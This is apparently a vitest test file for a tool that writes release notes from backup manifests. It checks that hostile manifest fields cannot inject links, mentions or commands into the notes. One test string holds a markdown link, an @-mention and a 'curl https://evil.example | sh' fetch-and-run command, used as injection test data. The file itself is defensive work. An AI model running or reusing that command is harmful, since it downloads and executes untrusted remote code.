// The notes of a release: a manifest that was copied from somebody else's store must not write them.
import { expect, test } from 'vitest';
import { describeSnapshot } from '../../../src/stores/release/notes.ts';
import { exampleManifest } from '../../domain/manifests.ts';

const whereabouts = { address: 'release:acme/backups', holder: 'acme/backups', partSize: 2_000_000_000 };

test('a manifest of another store puts no command, link or mention of its own into the notes', () => {
  const evil = '](https://evil.example) @ada\n\n```sh\ncurl https://evil.example | sh\n```\n| x';
  const manifest = exampleManifest();
  Object.assign(manifest, { created_by: { name: evil, version: evil, run_url: evil }, commit_message: evil });
  Object.assign(manifest, { source: evil });
  const notes = describeSnapshot(JSON.stringify(manifest), whereabouts);
  expect(notes.split('\n').filter((line) => line.startsWith('```'))).toEqual(['```sh', '```', '```sh', '```']);
  expect(notes.replaceAll(/`[^`\n]+`/g, '')).not.toMatch(/evil|@ada|curl/);
});

test('the run is a link', () => {
  const url = 'https://github.com/acme/backups/actions/runs/7';
  const manifest = { ...exampleManifest(), created_by: { name: 'repo-backup', version: '1.0.0', run_url: url } };
  expect(describeSnapshot(JSON.stringify(manifest), whereabouts)).toContain(`| Run | ${url} |`);
});
